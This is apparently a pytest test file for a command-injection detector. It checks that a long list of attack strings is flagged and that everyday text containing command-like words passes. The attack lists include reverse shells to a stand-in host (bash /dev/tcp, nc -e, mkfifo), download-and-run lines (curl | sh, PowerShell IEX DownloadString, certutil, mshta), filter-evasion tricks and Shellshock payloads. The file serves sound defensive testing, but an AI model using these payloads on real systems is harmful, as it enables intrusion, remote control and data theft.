"""Commands are refused however they are spelt, and words that are commands too pass."""

import pytest
from hypothesis import given, settings, strategies as st

from groupz_shield.signatures.assembly import inspector_of
from groupz_shield.signatures.settings import Signatures
from groupz_shield.signatures.shell_reading import ShellReading
from groupz_shield.signatures.vocabulary import Family, Place, Value

INSPECTOR = inspector_of(Signatures())
READING = ShellReading()

UNIX = r"""
;id
|id
||id
&&id
;ls
| ls -la
; ls /
1;id
1|id
1 && whoami
x; whoami
x || whoami
x|uname -a
198.51.100.7; cat /srv/key.txt
198.51.100.7 | cat /etc/group
198.51.100.7 && ifconfig
report.pdf; cat notes.txt
a; ping -c 4 198.51.100.7
a & ping -n 4 198.51.100.7 &
; sleep 12
1; sleep 12
x && sleep 7 &&
$(sleep 9)
`sleep 9`
$(id)
$(cat /etc/group)
`id`
a`whoami`b
a$(whoami)b
"; cat /etc/group; "
'; cat /etc/group #
"&&cat /etc/group&&"
cat /etc/group
cat -n /etc/group
/bin/cat /etc/group
/usr/bin/id
;/usr/bin/env
ls -la
ls /srv
id -un
uname -a
find / -name key.txt
find . -name key.txt -exec cat {} +
grep -r secret /srv/www
head -n 3 /etc/group
tail /var/log/syslog
echo 1234 > /tmp/probe
echo aGVsbG8= | base64 -d | sh
curl http://203.0.113.9/a.sh | sh
; curl -s http://203.0.113.9/a
;wget 203.0.113.9/a
wget -q http://203.0.113.9/a -O /tmp/a
x; chmod 777 /tmp/a
x; chmod +x /tmp/a
sudo cat /etc/group
x; nohup /tmp/a &
x; kill -9 1
rm -rf /srv
x; rm -rf /srv/www
x; touch /tmp/probe
x; python3 -c 'print(7)'
x; perl -e 'print 7'
x; php -r 'echo 7;'
x; env
x; printenv
x; netstat -an
x; ps aux; id
198.51.100.7%0aid%0a
x%0awhoami
x%0acat%20/etc/group
x%0d%0acat%20/etc/group
x%3Bcat%20%2Fetc%2Fgroup
x%253Bcat%2520%252Fetc%252Fgroup
"""
HIDDEN = r"""
;c'a't /etc/group
;c"a"t /etc/group
;ca""t /etc/group
;c\at /etc/group
;c$@at /etc/group
;c${@}at /etc/group
;c``at /etc/group
;c$()at /etc/group
;w'h'o'am'i
;wh""oami
;who$@ami
;w\ho\am\i
c'a't /etc/group
;cat${IFS}/etc/group
;cat$IFS/etc/group
;cat$IFS$9/etc/group
cat${IFS}notes.txt
;{cat,/etc/group}
{cat,/etc/group}
;{ls,-la}
;cat</etc/group
;cat<>/etc/group
;/???/c?t /???/gr??p
;/b?n/c?t /e?c/gr?up
/bin/ca? /etc/gro*
;/usr/bin/wh*mi
;cat /e[t]c/group
;cat /etc/gro''up
;a=ca;b=t;$a$b /etc/group
;$(printf 'ca')t /etc/group
;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|bash
;${PATH:0:1}bin${PATH:0:1}id
;cat ${HOME:0:1}etc${HOME:0:1}group
;time cat /etc/group
;env cat /etc/group
;sudo -n cat /etc/group
;busybox cat /etc/group
;CAT /etc/group
;!cat /etc/group
;(cat /etc/group)
;>/tmp/probe cat /etc/group
;cat+/etc/group
"""
SHELLS = r"""
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
bash -c 'exec bash -i &>/dev/tcp/203.0.113.9/4444 <&1'
0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196
nc -e /bin/sh 203.0.113.9 4444
nc -lvp 4444
ncat 203.0.113.9 4444 -e /bin/bash
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
socat TCP:203.0.113.9:4444 EXEC:sh
python3 -c 'import socket,subprocess,os'
perl -MIO::Socket -e '$p=fork'
php -r '$s=fsockopen("203.0.113.9",4444);'
ruby -rsocket -e 'exit'
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"}'
lua -e 'os.execute("id")'
telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445
"""
WINDOWS = r"""
& whoami
& dir c:\
| dir C:\
&& type C:\notes.txt
& ipconfig /all
| tasklist /v
cmd /c dir
cmd.exe /c whoami
c^m^d /c who^ami
& w^h^o^a^m^i
& net user probe secret /add
x & ping -n 5 127.0.0.1
powershell -enc aQBkAAoAaQBkAAoA
powershell -nop -w hidden -c whoami
powershell.exe -ExecutionPolicy Bypass -File a.ps1
powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')
IEX (New-Object Net.WebClient)
Invoke-WebRequest http://203.0.113.9/a -OutFile a.exe
Start-Process calc.exe
Get-ChildItem -Recurse
Get-Content C:\notes.txt
certutil -urlcache -f http://203.0.113.9/a a.exe
bitsadmin /transfer a http://203.0.113.9/a c:\a
mshta http://203.0.113.9/a.hta
regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll
rundll32.exe javascript:a
wmic process list
schtasks /create /tn a
for /f %i in ('whoami') do echo %i
if exist C:\a.txt echo yes
%COMSPEC% /c dir
"""
ELSEWHERE = r"""
() { :;}; echo probe
() { ignored; }; /bin/id
() { _; } >_[$($())] { id; }
<!--#exec cmd="id" -->
<!--#include virtual="/notes.txt" -->
<!--#echo var="DATE_LOCAL" -->
<!-- #printenv -->
x"; expect://id
"""
ATTACKS = [
    attack
    for table in (UNIX, HIDDEN, SHELLS, WINDOWS, ELSEWHERE)
    for attack in table.strip("\n").split("\n")
]

HONEST = r"""
I have a cat; can it come? id please
Wil je de lift & trap; who is coming | what time
ls
id
who
time
false
Bring bread & cat food; find us at the desk.
Fish & chips; meat; veg
meat|fish|veg
fish /meat /vegetarian
lift;wc
lift | wc | trap
douche & wc
thee; koffie; tee
nl;en;de
en;nl;q=0.9
de & nl
CD & DVD
dvd;cd
SC; NC; VA
WA;ID;OR
Charlotte, NC 28202
Boise, ID 83702
paspoort;id
rijbewijs | id
user;pwd
naam;tel;mail
name; date; place
name|id|date
ich & du; er | sie
time: 10:00 | place: hall
time / place
date 5/5/2027; time 10:30
Date -- 5 May
man /woman /other
head & shoulders
cut & paste; copy; move
start - stop
open /close the door
make /maak; top /best
cat /dog
nice -- really
page 2-3; exit 5
mount Everest; touch screen; finger food
bash & zsh; php | mysql; vim | nano
linux|bash
golf & curl
biceps curl - 3 sets
python - slang
Workshop PowerShell voor beginners
PowerShell (beginners) & Bash
Type A & B, net 5, at 10
ipconfig is a command
more; less
kat;cat;chat
The `cat` command; then `sort`.
use `ls -la` to list
The price is ${amount}; the sum $(total)
it costs $5; free $10; make $15
a > b; b < c; <3
<<< back to the start
wow!!1!1
a{1,3}b is a regular expression
{a,b} and {lat,lng} and {1, 2}
Tom & Jerry; O'Neill | 's-Gravenhage & 'n kat
and\or; w\o; voor\achternaam
C:\fakepath\photo.jpg
Menu > /home/start
R&D | sales & service
x^2 + y^2; a^b
https://site.example/tmp/a?b=1
https://site.example/dev/list?page=2&sort=-date
https://site.example/?a=1&cat=5&id=7&sort=asc
https://site.example/cart/remove-item
https://site.example/api/get-location
%CD
100% path
timeout=5, max=100
theme=dark; id=abc; locale=nl; timeout=5
text/html,application/xml;q=0.9,*/*;q=0.8
Go-http-client/1.1
git/2.40.0
""".strip("\n").split("\n")
LINES = [
    "Hello\r\nHelp me please\r\nTurn left\r\nTop 10\r\nData\r\nQuit",
    "Agenda\r\nDate -- 5 May\r\nHost -- Anna\r\nTime 10:30\r\nFind us at 5",
    "Menu:\nfish /meat\ncat food\ntee\nwc -links\nnl 5",
]


def families(text: str, place: Place = Place.FORM) -> set[Family]:
    return {
        finding.family for finding in INSPECTOR.inspect([Value(place, "host", text)])
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_command_is_refused(attack: str) -> None:
    assert families(attack)


@pytest.mark.parametrize("text", [*HONEST, *LINES])
def test_words_that_are_commands_too_pass(text: str) -> None:
    assert families(text) == set()


def test_a_command_is_told_as_what_it_is() -> None:
    assert families("x; cat /srv/notes.txt") == {Family.COMMAND_EXECUTION}


@pytest.mark.parametrize(
    "before", ["kom ook, " * 2_000 + "\n", "x;" * 300, "; a cat" * 900 + "; "]
)
def test_a_command_after_a_long_text_is_refused(before: str) -> None:
    assert families(before + "$(cat /srv/notes.txt)")


@pytest.mark.parametrize(
    ("text", "canonical"),
    [
        ("x; cat -n /etc/hosts", "few ^ n ; word:cat o s "),
        ("c'a't /etc/hosts", "few ^ word:cat s "),
        ("{cat,/etc/hosts}", "few ^ word:cat s "),
        ("cat${IFS}/etc/hosts", "few ^ word:cat s "),
        ("a && sudo ls .", "few ^ n && short:ls o d "),
        ("say `id`", "few ^ x q short:id ` "),
        ("say`id`", "few ^ x ` short:id ` "),
        ("we come with seven of us today; id", "^ x x x x x x x . short:id "),
        ("w^get http://a.example", "few ^ sure:wget u "),
    ],
)
def test_a_text_becomes_commands_and_what_they_are_given(
    text: str, canonical: str
) -> None:
    assert canonical in READING.read(text)


@given(st.text(alphabet="aidcts;|&`$(){}'\"\\^,/?*<>- \n.1", max_size=200))
def test_reading_never_raises_and_says_the_same_twice(text: str) -> None:
    assert list(READING.read(text)) == list(READING.read(text))


@settings(deadline=None)
@given(st.text(alphabet=";|&`$(){}'\"\\^,/ a\n", min_size=1, max_size=9))
def test_reading_a_long_text_does_not_say_more_than_it_may(piece: str) -> None:
    forms = list(READING.read(piece * 5_000))
    assert len(forms) <= 32
    assert sum(map(len, forms)) < 400_000
